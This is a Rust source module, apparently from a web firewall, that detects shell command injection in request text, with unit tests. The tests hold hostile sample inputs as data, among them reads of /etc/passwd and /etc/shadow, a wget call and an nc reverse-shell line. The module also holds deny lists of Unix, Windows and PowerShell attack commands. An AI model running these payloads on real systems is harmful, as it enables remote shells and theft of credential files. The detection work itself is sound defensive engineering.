//! Command injection: what a shell (Unix's, Windows' `cmd`, PowerShell)
//! would run if the text reached it.

use super::lists::{POWERSHELL_COMMANDS, UNIX_COMMANDS, UNIX_SHELL, path_in, window, word_in};

/// Where a shell starts a new command: `;`, `|`, `&`, a newline, a
/// backquote, `$(`, or a brace that opens a group.
fn command_starts(text: &str) -> impl Iterator<Item = usize> + '_ {
    let bytes = text.as_bytes();
    (0..bytes.len()).filter_map(move |at| match bytes[at] {
        b';' | b'|' | b'&' | b'\n' | b'`' => Some(at + 1),
        // A group opens with `{ ` (a blank after it); `{"id":1}` is JSON.
        b'{' if bytes.get(at + 1) == Some(&b' ') => Some(at + 1),
        b'(' if at > 0 && bytes[at - 1] == b'$' => Some(at + 1),
        _ => None,
    })
}

/// The command word at `at`, as a shell reads it: blanks skipped,
/// quotes and backslashes inside it dropped (`c'a't`, `c\at`, `"id"`),
/// a path before it dropped (`/bin/cat`); with what follows it.
fn command_word(text: &str, at: usize) -> (String, &str) {
    // Blanks and openers before a word: a few, not a whole text of them.
    let lead = text[at..]
        .bytes()
        .take(16)
        .take_while(|b| matches!(b, b' ' | b'\t' | b'(' | b'{' | b'!'))
        .count();
    let rest = &text[at + lead..];
    let mut word = String::new();
    let mut end = rest.len();
    let mut chars = rest.char_indices().peekable();
    while let Some((index, c)) = chars.next() {
        if index > 256 {
            // No command is this long: give up on the word.
            word.clear();
            end = index;
            break;
        }
        match c {
            '\'' | '"' | '\\' | '^' => {}
            // `c$@at`, `c$!at`: special parameters that expand to nothing.
            '$' if chars
                .peek()
                .is_some_and(|&(_, next)| matches!(next, '@' | '!' | '*')) =>
            {
                chars.next();
            }
            '?' | '*' if !word.is_empty() => word.push(c),
            '/' => word.clear(),
            c if c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.' | '+') => word.push(c),
            _ => {
                end = index;
                break;
            }
        }
    }
    (word, &rest[end..])
}

/// A Unix command (the Core Rule Set's list: `cat`, `wget`, `nc`,
/// `bash`...) where a shell starts one: after `;`, `|`, `&`, a newline,
/// a backquote or `$(`, even spelt `c'a't`; or at the very start, when an
/// argument follows that only a command line has (`cat /etc/passwd`,
/// `ls -la`, `id;`).
pub(super) fn rce_unix_command(text: &str) -> bool {
    let after_separator = command_starts(text).any(|at| {
        let (word, rest) = command_word(text, at);
        if word.is_empty() {
            // `&&$a -nlvp 555`: a command held in a variable.
            let rest = window(text[at..].trim_start(), 64);
            return rest.starts_with('$')
                && rest[1..].split_once(' ').is_some_and(|(name, args)| {
                    !name.is_empty()
                        && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
                        && args.starts_with('-')
                });
        }
        is_command(&word)
            // `&pr=1` is a form field, `x=1` an assignment.
            && !rest.starts_with('=')
            // `; more than that` is prose unless a command line follows.
            && (!ENGLISH_WORDS.contains(&word.as_str()) || command_line_follows(rest))
    });
    after_separator || {
        let (word, rest) = command_word(text, 0);
        is_command(&word) && command_line_follows(rest)
    }
}

/// The longest glob [`is_command`] expands, in bytes: no command is longer.
const LONGEST_GLOB: usize = 32;

/// Whether `word` names a Unix command, itself or as a glob that a shell
/// expands to one (`/bin/ca?`, `wh*ami`; at most [`LONGEST_GLOB`] bytes).
fn is_command(word: &str) -> bool {
    if word.contains(['?', '*']) {
        let literal = word.chars().filter(|c| !matches!(c, '?' | '*')).count();
        literal >= 2
            && word.len() <= LONGEST_GLOB
            && UNIX_COMMANDS
                .iter()
                .any(|command| glob_matches(word.as_bytes(), command.as_bytes()))
    } else {
        // `python3.10`: a command with its version.
        let unversioned = word.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
        UNIX_COMMANDS.binary_search(&word).is_ok()
            || (unversioned.len() > 2 && UNIX_COMMANDS.binary_search(&unversioned).is_ok())
    }
}

/// Whether `name` matches the glob `pattern` (`?` one byte, `*` any), in
/// time linear in their product: on a mismatch it backtracks only to the
/// last `*`, never through every earlier one.
fn glob_matches(pattern: &[u8], name: &[u8]) -> bool {
    let (mut p, mut n) = (0, 0);
    let mut last_star: Option<(usize, usize)> = None;
    while n < name.len() {
        match pattern.get(p) {
            Some(b'*') => {
                last_star = Some((p, n));
                p += 1;
            }
            Some(&b) if b == b'?' || b == name[n] => {
                p += 1;
                n += 1;
            }
            _ => match last_star {
                Some((star, matched)) => {
                    p = star + 1;
                    n = matched + 1;
                    last_star = Some((star, matched + 1));
                }
                None => return false,
            },
        }
    }
    pattern[p..].iter().all(|&b| b == b'*')
}

/// Commands named like English words: after a separator too they count
/// only when a command line follows (`; more than that` is prose).
const ENGLISH_WORDS: [&str; 40] = [
    "as", "at", "cut", "date", "do", "echo", "env", "expand", "false", "file", "find", "fold",
    "free", "head", "join", "kill", "last", "less", "look", "make", "man", "more", "nice", "paste",
    "print", "read", "sleep", "sort", "split", "sum", "tail", "tee", "test", "time", "top", "true",
    "type", "wait", "watch", "write",
];

/// Whether `rest`, after a command word, reads as the rest of a command
/// line: an option, a path, a variable, a redirect or another command.
fn command_line_follows(rest: &str) -> bool {
    let Some(first) = rest.chars().next() else {
        return false;
    };
    if matches!(first, ';' | '|' | '&' | '`' | '>' | '<' | '$') {
        return true;
    }
    let argument = rest.trim_start();
    let next_word = argument
        .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '-'))
        .next()
        .unwrap_or("");
    first == ' '
        && (argument.starts_with(['-', '/', '$', '~', '>', '<', '|', ';', '`'])
            || argument.starts_with("../")
            || argument.starts_with("http://")
            || argument.starts_with("https://")
            || (next_word.len() >= 2 && is_command(next_word)))
}

/// A shell's paths and variables (the Core Rule Set's list: `/bin/sh`,
/// `/dev/tcp`, `$IFS`, `${PATH}`...).
pub(super) fn rce_unix_path(text: &str) -> bool {
    path_in(text, UNIX_SHELL)
}

/// A Windows command where `cmd` starts one (after `&`, `|`, `;` or a
/// newline), or `cmd /c`, `powershell -...` anywhere.
pub(super) fn rce_windows_command(text: &str) -> bool {
    const COMMANDS: [&str; 27] = [
        "bitsadmin",
        "certutil",
        "cmd",
        "cmd.exe",
        "cscript",
        "del",
        "dir",
        "ipconfig",
        "mshta",
        "net",
        "net.exe",
        "netstat",
        "nslookup",
        "ping",
        "powershell",
        "powershell.exe",
        "pwsh",
        "reg",
        "regsvr32",
        "rundll32",
        "schtasks",
        "systeminfo",
        "tasklist",
        "type",
        "whoami",
        "wmic",
        "wscript",
    ];
    let after_separator = command_starts(text).any(|at| {
        let (word, rest) = command_word(text, at);
        COMMANDS.contains(&word.as_str())
            && (rest.is_empty() || rest.starts_with([' ', '&', '|', ';']))
    });
    after_separator
        || [
            "cmd /c",
            "cmd.exe /c",
            "cmd /k",
            "cmd.exe /k",
            "powershell -",
            "powershell.exe -",
        ]
        .iter()
        .any(|call| text.contains(call))
}

/// A PowerShell cmdlet (the Core Rule Set's list: `invoke-expression`,
/// `get-childitem`, `new-object`...), as a whole word.
pub(super) fn rce_powershell(text: &str) -> bool {
    text.contains('-') && word_in(text, POWERSHELL_COMMANDS)
}

/// Shell syntax that runs a command inside a value: `$(cmd)`, `<(cmd)`,
/// `>(cmd)`, a function defined and run (`f(){ f|f& };f`, the
/// fork bomb), or an alias defined to run one.
pub(super) fn rce_shell_expression(text: &str) -> bool {
    // `${name}` is left out: URL templates (`${US_PRIVACY}`) carry it.
    let last_close = text.rfind(')');
    let substitution = ["$(", "<(", ">("].iter().any(|open| {
        text.find(open)
            .is_some_and(|at| last_close.is_some_and(|close| close > at))
    });
    let last_brace = text.rfind('}');
    let function = [text.find("(){"), text.find("() {")]
        .into_iter()
        .flatten()
        .any(|at| last_brace.is_some_and(|close| close > at));
    let alias = text.match_indices("alias ").any(|(at, _)| {
        (at == 0 || !text.as_bytes()[at - 1].is_ascii_alphanumeric())
            && text[at + 6..]
                .split_whitespace()
                .next()
                .is_some_and(|w| w.contains('='))
    });
    // `~+`, `~-1`: the shell's directory stack.
    let tilde = text
        .strip_prefix('~')
        .and_then(|rest| rest.strip_prefix(['+', '-']))
        .is_some_and(|rest| rest.bytes().all(|b| b.is_ascii_digit()));
    substitution || function || alias || tilde
}

/// A Windows `cmd` loop or test: `for %x in (set) do ...`, `for /f`,
/// `if exist ...`, `if not defined ...`, `if errorlevel ...`.
pub(super) fn rce_windows_control(text: &str) -> bool {
    let for_loop = text.match_indices("for ").any(|(at, _)| {
        let rest = window(&text[at..], 200);
        rest.contains('%')
            && rest.contains(" in")
            && rest.contains('(')
            && (rest.contains(" do") || rest.contains(")do"))
    });
    let test = text.match_indices("if ").any(|(at, _)| {
        // A test is short: look a line's length ahead, no further.
        let rest = window(&text[at + 3..], 200);
        let rest = rest.strip_prefix("/i ").unwrap_or(rest);
        let rest = rest.strip_prefix("not ").unwrap_or(rest);
        ["exist ", "defined ", "errorlevel ", "cmdextversion "]
            .iter()
            .any(|test| rest.starts_with(test))
            || (!rest.starts_with('(')
                && [" equ ", " neq ", " lss ", " leq ", " gtr ", " geq ", "=="]
                    .iter()
                    .any(|comparison| rest.contains(comparison)))
    });
    for_loop || test
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_where_a_shell_starts_them() {
        for attack in [
            ";cat /etc/passwd",
            "x|id",
            "a && whoami",
            "`uname -a`",
            "$(wget http://x/y)",
            ";c'a't /etc/shadow",
            "1;/bin/ls -la",
            "cat /etc/hosts",
            "ls -la",
            "nc -e /bin/sh 10.0.0.1 4444",
        ] {
            assert!(rce_unix_command(attack), "{attack}");
        }
        for text in [
            "cat lovers",
            "less is more",
            "rock & roll",
            "tom & jerry; a story",
            "find a seat",
            "id=42",
            "ls",
        ] {
            assert!(!rce_unix_command(text), "{text}");
        }
    }

    #[test]
    fn globs_match_as_a_shell_expands_them_in_linear_time() {
        assert!(glob_matches(b"ca?", b"cat"));
        assert!(glob_matches(b"wh*ami", b"whoami"));
        assert!(glob_matches(b"*", b""));
        assert!(!glob_matches(b"c?t", b"cart"));
        assert!(!glob_matches(b"a*b*c", b"abd"));
        // Once exponential: 30 stars against a long name, and at the start
        // of a value (a 40-byte request held a core for hours).
        let stars = format!("u{}x", "*".repeat(30));
        assert!(!glob_matches(stars.as_bytes(), b"update-alternatives"));
        assert!(!rce_unix_command(&format!("u{}x", "*".repeat(40))));
        assert!(!rce_unix_command(&format!("u{}x", "*".repeat(20))));
    }

    #[test]
    fn windows_and_powershell() {
        assert!(rce_windows_command("x & whoami"));
        assert!(rce_windows_command("| net user"));
        assert!(rce_windows_command("cmd.exe /c dir"));
        assert!(!rce_windows_command("the net result"));
        assert!(rce_powershell("; invoke-expression (x)"));
        assert!(!rce_powershell("well-known"));
    }
}
